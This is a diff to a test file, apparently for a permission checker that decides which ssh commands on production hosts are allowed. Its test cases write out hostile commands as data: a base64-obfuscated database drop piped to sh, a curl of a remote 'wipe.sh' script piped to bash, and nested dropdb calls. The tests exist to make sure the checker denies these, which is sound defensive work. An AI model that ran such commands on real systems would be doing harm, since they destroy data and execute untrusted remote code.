@@ -126,6 +126,10 @@ describe('ssh', () => {
     ['ssh prod-db bash -s', 'deny nested.unreadable'],
     ['ssh -s prod-db sftp', 'deny nested.unreadable'],
     ["ssh prod-db 'ssh other dropdb shop'", 'deny dropdb'],
+    ["ssh prod-db 'echo ZHJvcGRiIHNob3A= | base64 -d | sh'", 'deny nested.unreadable'],
+    ["ssh prod-db 'curl -s https://x.example/wipe.sh | bash'", 'deny nested.unreadable'],
+    ["ssh prod-db 'echo uptime | sh'", 'allow'],
+    ["ssh prod-db 'echo dropdb shop | sh'", 'deny dropdb'],
     ["ssh prod-db 'kubectl exec pod -- dropdb shop'", 'deny dropdb'],
     // development hosts run it; benign commands and forwards are untouched
     ["ssh localhost 'dropdb shop'", 'allow dropdb'],
